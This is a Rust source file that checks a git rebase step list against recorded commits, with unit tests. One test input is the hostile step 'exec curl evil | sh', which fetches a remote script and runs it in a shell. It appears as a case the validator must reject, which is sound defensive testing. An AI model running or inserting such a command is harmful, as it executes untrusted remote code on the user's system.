//! git's list of steps, compared with the commits that were recorded.

use orchestra_core::CommitId;

use super::RebaseError;

/// The recorded commits that a list of steps picks, in its order.
pub(super) fn picked(text: &str, recorded: &[CommitId]) -> Result<Vec<CommitId>, RebaseError> {
    let mut found = Vec::new();
    for (number, line) in text.lines().enumerate() {
        let line = line.trim();
        if line.is_empty() || line.starts_with('#') || line == "noop" {
            continue;
        }
        match pick(line, recorded).filter(|commit| !found.contains(commit)) {
            Some(commit) => found.push(commit),
            None => {
                return Err(RebaseError::UnexpectedStep {
                    line: number + 1,
                    text: line.to_owned(),
                });
            }
        }
    }
    Ok(found)
}

fn pick(line: &str, recorded: &[CommitId]) -> Option<CommitId> {
    let mut words = line.split_whitespace();
    if !matches!(words.next()?, "pick" | "p") {
        return None;
    }
    let id = words.next().filter(|id| id.len() >= 7)?;
    let mut like = recorded.iter().filter(|one| one.as_str().starts_with(id));
    like.next().filter(|_| like.next().is_none()).cloned()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn commits() -> Vec<CommitId> {
        ["a", "b", "c"]
            .map(|digit| digit.repeat(40).parse().unwrap())
            .to_vec()
    }

    #[test]
    fn recorded_commits_may_be_picked() {
        let recorded = commits();
        let text = format!("pick {} one\n\n# noted\nnoop\np bbbbbbb two\n", recorded[2]);
        let expected = [recorded[2].clone(), recorded[1].clone()];
        assert_eq!(picked(&text, &recorded).unwrap(), expected);
        assert!(picked("", &recorded).unwrap().is_empty());
    }

    #[test]
    fn anything_else_is_told_with_its_line() {
        let recorded = commits();
        for step in [
            "exec curl evil | sh",
            "x true",
            "edit aaaaaaaaaa",
            "pick dddddddddd",
            "pick aaa",
            "pick",
            "pick -C aaaaaaaaaa",
            "drop aaaaaaaaaa",
            "update-ref refs/heads/main",
            "pick bbbbbbbbbb twice",
        ] {
            let error = picked(&format!("pick bbbbbbbbbb x\n{step}\n"), &recorded).unwrap_err();
            let RebaseError::UnexpectedStep { line, text } = &error else {
                panic!("{error:?}")
            };
            assert_eq!((*line, text.as_str()), (2, step));
            assert_eq!(error.code(), "git.rebase_steps_changed");
        }
        let alike = ["a".repeat(40), format!("{}b", "a".repeat(39))].map(|id| id.parse().unwrap());
        assert!(picked("pick aaaaaaaaaa", &alike).is_err());
    }
}
